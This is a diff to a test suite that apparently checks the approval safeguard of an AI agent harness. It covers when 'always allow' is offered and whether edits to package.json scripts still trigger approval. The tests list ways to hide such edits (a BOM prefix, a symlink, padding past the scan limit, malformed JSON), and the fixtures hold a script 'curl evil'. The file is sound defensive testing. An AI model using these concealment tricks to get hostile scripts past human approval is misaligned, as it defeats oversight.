@@ -68,8 +68,14 @@ describe('what was allowed for good', () => {
   it('is not offered for what can not be bound to its content', async () => {
     const task = newAgentTask();
     approveAll(task);
-    await start(task, [[asks('./deploy ..'), asks('deploy .')]]);
-    expect(task.state.approvals.map(({ permission }) => permission?.always)).toEqual([undefined, undefined]);
+    const large = Array.from({ length: 9 }, (_, index) => `l${index}`);
+    const script: Script = [
+      [asks('./deploy ..'), asks('deploy .')],
+      [{ run: ['truncate', '-s', '8M', ...large] }, asks(`deploy ${large.join(' ')}`), { run: ['rm', ...large] }],
+    ];
+    await start(task, [script.flat()]);
+    const offered = task.state.approvals.map(({ permission }) => permission?.always);
+    expect(offered).toEqual([undefined, undefined, undefined]);
   });
 });
 
@@ -109,5 +115,25 @@ describe('an approval', () => {
     expect(task.state.approvals).toMatchObject([
       { reason: 'the script “test” was changed in this task: curl evil', status: 'approved' },
     ]);
+  });
+
+  const hidden: readonly (readonly [string, readonly Step[]])[] = [
+    [
+      'with a mark at its start, which package managers pass over',
+      [{ write: { path: 'package.json', text: `\ufeff${rewritten}` } }],
+    ],
+    [
+      'with one script that is none',
+      [{ write: { path: 'package.json', text: '{"scripts":{"x":1,"test":"curl evil"}}' } }],
+    ],
+    ['by a link', [{ write: { path: 'p.json', text: rewritten } }, { run: ['ln', '-sf', 'p.json', 'package.json'] }]],
+    ['beyond what is looked at', [{ write: { path: 'package.json', text: rewritten.padEnd(2_000_000) } }]],
+    ['to what nobody can read', [{ write: { path: 'package.json', text: '{' } }]],
+  ];
+  it.each(hidden)('is asked for them when that is hidden %s', async (_, changes) => {
+    const task = newAgentTask();
+    approveAll(task);
+    await start(task, [[...changes, asks('npm test')]]);
+    expect(task.state.approvals).toMatchObject([{ status: 'approved', shown: 'npm test' }]);
   });
 });
